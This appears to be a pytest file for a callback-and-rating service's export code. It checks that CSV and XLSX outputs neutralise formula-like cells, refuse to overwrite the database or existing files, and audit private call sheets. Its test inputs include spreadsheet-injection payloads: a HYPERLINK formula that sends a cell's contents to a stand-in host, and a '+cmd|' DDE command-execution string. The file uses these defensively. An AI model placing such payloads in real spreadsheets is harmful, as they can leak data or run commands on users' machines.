"""Files callbackd writes: no cell a spreadsheet would evaluate, never onto the database or an existing file unless
asked, and nothing that makes a workbook unwritable."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from callbackd.app.synthetic import EVALUATOR_HEADER
from callbackd.core.settings import load_settings
from callbackd.store.db import Database
from callbackd.store.files import spreadsheet_text
from callbackd.store.models import Window
from tests.conftest import POSTGRES, case_row, phone_for, write_csv

FORMULAS = ['=HYPERLINK("http://x/?"&E3,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_text_a_spreadsheet_would_evaluate_is_kept_as_text():
    for text in FORMULAS:
        assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_text("社保窗口") == "社保窗口"
    assert spreadsheet_text(-2) == -2 and spreadsheet_text(None) is None  # numbers stay numbers
    assert spreadsheet_text("窗口\x01") == "窗口\\x01"  # what xlsx cannot hold, shown


def windows_named(cli, workdir, names: list[str]) -> None:
    """A ledger with these windows, and a week of evaluator ratings for each so every export has rows."""
    rows = [case_row(f"F{i}", name, phone=phone_for(i), applicant=FORMULAS[0]) for i, name in enumerate(names)]
    assert cli("ledger", "import", write_csv(workdir / "l.csv", rows)).code == 0
    ratings = [[name, "2026-11-20 10:00:00", "满意"] for name in names for _ in range(6)]
    run = cli("results", "import", write_csv(workdir / "e.csv", ratings, header=EVALUATOR_HEADER),
              "--source", "evaluator", "--json")
    assert run.json()["imported"] == len(ratings)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_window_names_that_look_like_formulas_are_exported_as_text(cli, workdir, fmt):
    names = ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"]
    windows_named(cli, workdir, names)
    out = workdir / f"ranking.{fmt}"
    run = cli("export", "--period", "2026-W47", "--format", fmt, "--out", out)
    assert run.code == 0, run.err
    if fmt == "csv":
        cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for cell in row]
    else:
        book = load_workbook(out)
        assert not [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    for name in names:
        assert "'" + name in cells
        assert name not in cells


def test_a_control_character_in_a_window_name_leaves_the_workbook_writable(cli, workdir):
    # the ledger refuses such a name now; a window stored before it did still exports
    windows_named(cli, workdir, ["社保窗口"])
    database = Database(load_settings().database_url)
    with database.session() as session:
        session.execute(update(Window).values(name="社保\x01窗口"))
    database.dispose()
    out = workdir / "ranking.xlsx"
    run = cli("export", "--period", "2026-W47", "--format", "xlsx", "--out", out)
    assert run.code == 0, run.err
    book = load_workbook(out)
    assert "社保\\x01窗口" in [c.value for row in book["排名"].iter_rows() for c in row]


def test_an_existing_file_is_replaced_only_with_overwrite(cli, workdir):
    windows_named(cli, workdir, ["社保窗口"])
    out = workdir / "ranking.csv"
    out.write_text("keep me", encoding="utf-8")
    refused = cli("export", "--period", "2026-W47", "--format", "csv", "--out", out)
    assert refused.code == 1
    assert refused.err.strip() == f"error: --out {out} exists; add --overwrite to replace it, or choose another file"
    assert out.read_text(encoding="utf-8") == "keep me"
    assert cli("export", "--period", "2026-W47", "--format", "csv", "--out", out, "--overwrite").code == 0
    assert "社保窗口" in out.read_text(encoding="utf-8-sig")


@pytest.mark.skipif(bool(POSTGRES), reason="the database is a file only on SQLite; the PostgreSQL pass has none")
@pytest.mark.parametrize("target", ["var/callbackd.db", "var/callbackd.db-wal", "var/../var/callbackd.db"])
def test_the_database_is_never_an_output_even_with_overwrite(cli, workdir, target):
    windows_named(cli, workdir, ["社保窗口"])
    database = workdir / "var" / "callbackd.db"
    before = database.read_bytes()
    for command in (["export", "--period", "2026-W47", "--format", "csv"], ["audit", "export"]):
        run = cli(*command, "--out", target, "--overwrite")
        assert run.code == 1
        assert "is the database (or one of its journals)" in run.err
    assert database.read_bytes() == before
    assert cli("windows", "list", "--json").json()[0]["window"] == "社保窗口"  # still a database


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_call_sheet_is_private_neutralised_and_audited_with_its_file_and_cases(cli, workdir, monkeypatch, fmt):
    monkeypatch.setenv("CALLBACKD_NOW", "2026-11-24T10:00:00+08:00")
    rows = [case_row(f"S{i}", phone=phone_for(i), applicant=FORMULAS[0]) for i in range(3)]
    assert cli("ledger", "import", write_csv(workdir / "l.csv", rows)).code == 0
    assert cli("round", "open", "--week", "2026-W48", "--seed", "s", "--channel", "operator").code == 0
    assert cli("dispatch", "--once").code == 0
    out = workdir / f"sheet.{fmt}"
    run = cli("callsheet", "--round", "1", "--format", fmt, "--out", out)
    assert run.code == 0, run.err
    assert out.stat().st_mode & 0o777 == 0o600  # applicants' names and numbers: the owner's only
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    else:
        book = load_workbook(out)
        assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]
        cells = [c.value for row in book.active.iter_rows() for c in row]
    assert cells.count("'" + FORMULAS[0]) == 3 and FORMULAS[0] not in cells
    assert {phone_for(i) for i in range(3)} <= set(cells)  # as an operator dials them
    audit = cli("audit", "list", "--action", "phone.reveal", "--json").json()
    assert audit[0]["subject"] == f"call sheet {out.resolve()}"
    assert sorted(audit[0]["detail"]["cases"]) == ["S0", "S1", "S2"]
    assert audit[0]["detail"]["file"] == str(out.resolve())
